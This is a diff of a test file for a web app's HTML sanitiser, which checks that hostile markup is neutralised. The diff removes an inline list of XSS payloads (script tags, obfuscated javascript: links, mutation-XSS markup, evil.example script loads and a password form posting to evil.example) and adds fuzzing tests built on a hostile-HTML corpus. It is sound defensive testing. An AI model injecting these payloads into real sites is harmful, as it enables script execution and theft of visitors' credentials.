@@ -1,91 +1,78 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { dangersOfProse } from '../testing/hostile-html/dangers.ts';
+import { HOSTILE_HTML } from '../testing/hostile-html/index.ts';
 import { isSafeAddress, plainText, safeHtml } from './safe-html.ts';
 
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="https://a.example/x.png" onload="alert(1)">',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
-  '<a href=" \u0001javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="x" style="position:fixed;inset:0">x</a>',
-  '<a href="x" onclick=alert(1) id=root name=body>x</a>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="x"></object><embed src="x">',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg onload=alert(1)>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
-  '<style>*{background:url(javascript:alert(1))}</style>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example"><input name=password><button>go</button></form>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<p title="a&quot; onmouseover=&quot;alert(1)">x</p>',
-  "<p title='\"><script>alert(1)</script>'>x</p>",
-  '<!--><script>alert(1)</script>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><script>alert(1)</script>',
-  '<template><script>alert(1)</script></template>',
-  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
-  '<plaintext><script>alert(1)</script>',
-  '<div><p>unclosed <b>bold <i>both',
-  '</div></div><p>closed too often</p></section>',
-  '<details ontoggle=alert(1) open>x</details>',
-  '<video><source onerror=alert(1)></video>',
-  '<a\thref="x"\fonfocus=alert(1)\nautofocus>x</a>',
-];
-const ALLOWED_ATTRIBUTES =
-  'title lang dir href src alt width height start reversed colspan rowspan scope datetime rel loading'.split(
-    ' ',
+/** As a browser reads it in the middle of a page. */
+function shown(markup: string): Document {
+  return new DOMParser().parseFromString(
+    `<main><div id="box">${markup}</div><p id="after"></p></main>`,
+    'text/html',
   );
+}
+function dangers(markup: string): string[] {
+  const page = shown(markup);
+  const box = page.querySelector('#box') as Element;
+  const isOut = box.nextElementSibling?.id !== 'after' || page.body.childElementCount !== 1;
+  return [...dangersOfProse(box), ...(isOut ? ['left its place'] : [])];
+}
+
+/** Cut in pieces and put together anew, so that one payload ends inside another. */
+const pieces = HOSTILE_HTML.flatMap((markup) => [markup, ...(markup.match(/<[^<>]*|>[^<>]*|&\S*/g) ?? [])]);
+const mixtures = fc.array(fc.constantFrom(...pieces), { maxLength: 8 }).map((parts) => parts.join(''));
 
 describe('safeHtml', () => {
-  it.each(HOSTILE)('leaves nothing that runs, loads or escapes: %s', (markup) => {
-    const page = `<div id="box">${safeHtml(markup)}</div><p id="after"></p>`;
-    const box = new DOMParser().parseFromString(page, 'text/html').querySelector('#box');
-    expect(box?.nextElementSibling?.id).toBe('after');
-    for (const element of box?.querySelectorAll('*') ?? []) {
-      expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
-      expect(element.tagName).not.toMatch(
-        /^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|SVG|MATH|FORM|INPUT|BUTTON|BASE|META|LINK|TEMPLATE|DETAILS|VIDEO|TEXTAREA|TITLE|NOSCRIPT)$/,
-      );
-      for (const { name, value } of element.attributes) {
-        expect(ALLOWED_ATTRIBUTES).toContain(name);
-        if (name === 'href' || name === 'src') {
-          const { protocol, host } = new URL(value, 'https://site.example/');
-          expect(['https:', 'http:', 'mailto:', 'tel:']).toContain(protocol);
-          expect(host).not.toBe('evil.example');
-        }
-      }
-    }
+  it('[F11] of 200 hostile texts leaves nothing that runs, loads or escapes', () => {
+    expect(new Set(HOSTILE_HTML).size).toBeGreaterThanOrEqual(200);
+    const failed = HOSTILE_HTML.map((markup) => [markup, dangers(safeHtml(markup))] as const);
+    expect(failed.filter(([, found]) => found.length > 0)).toEqual([]);
   });
 
-  it.each(HOSTILE)('gives the same again when its own answer is sanitised: %s', (markup) => {
-    const once = safeHtml(markup);
-    expect(safeHtml(once)).toBe(once);
+  it('[F11] nor when they are written into a place that a parser reads otherwise', () => {
+    const wrap = (markup: string) => [
+      `<p title="${markup}">x</p>`,
+      `<a href='${markup}'>x</a>`,
+      `<img src="https://a.example/x.png" alt=${markup}>`,
+      `<table><tr>${markup}<td>x</table>`,
+      `<pre>\n${markup}</pre>`,
+      `<ul><li>${markup}<li>x</ul>`,
+      `<!-- ${markup} -->`,
+    ];
+    const some = HOSTILE_HTML.filter((_, index) => index % 4 === 0);
+    const failed = some.flatMap(wrap).map((markup) => [markup, dangers(safeHtml(markup))] as const);
+    expect(failed.filter(([, found]) => found.length > 0)).toEqual([]);
+  });
+
+  it('[F11] gives the same again when its own answer is sanitised, whatever it was given', () => {
+    for (const markup of HOSTILE_HTML) expect(safeHtml(safeHtml(markup))).toBe(safeHtml(markup));
+    fc.assert(
+      fc.property(mixtures, (markup) => safeHtml(safeHtml(markup)) === safeHtml(markup)),
+      { numRuns: 10_000 },
+    );
+  });
+
+  it('[F11] no mixture of hostile texts comes alive', () => {
+    fc.assert(
+      fc.property(mixtures, (markup) => {
+        expect(dangers(safeHtml(markup))).toEqual([]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('a picture of another host is asked of the own one, so that nobody hears of the visitor', () => {
+    expect(safeHtml('<img src="https://a.example/k.jpg?x=1&amp;y" alt="A kiln">')).toBe(
+      '<img src="/api/image?url=https%3A%2F%2Fa.example%2Fk.jpg%3Fx%3D1%26y&amp;w=1200" alt="A kiln" loading="lazy">',
+    );
+    expect(safeHtml('<img src="/storage/k.jpg" alt="">')).toContain('src="/storage/k.jpg"');
   });
 
   it('keeps what writing needs', () => {
     const text =
-      '<h2>Clay</h2><p>Soft &amp; <strong>patient</strong>.<br>See <a href="/blog">notes</a>.</p><ol start="3"><li>Wedge</li></ol><img src="https://a.example/k.jpg" alt="A kiln">';
+      '<h2>Clay</h2><p>Soft &amp; <strong>patient</strong>.<br>See <a href="/blog">notes</a>.</p><ol start="3"><li>Wedge</li></ol><img src="/k.jpg" alt="A kiln">';
     expect(safeHtml(text)).toBe(
-      '<h2>Clay</h2><p>Soft &amp; <strong>patient</strong>.<br>See <a href="/blog" rel="noopener nofollow">notes</a>.</p><ol start="3"><li>Wedge</li></ol><img src="https://a.example/k.jpg" alt="A kiln" loading="lazy">',
+      '<h2>Clay</h2><p>Soft &amp; <strong>patient</strong>.<br>See <a href="/blog" rel="noopener nofollow">notes</a>.</p><ol start="3"><li>Wedge</li></ol><img src="/k.jpg" alt="A kiln" loading="lazy">',
     );
   });
 
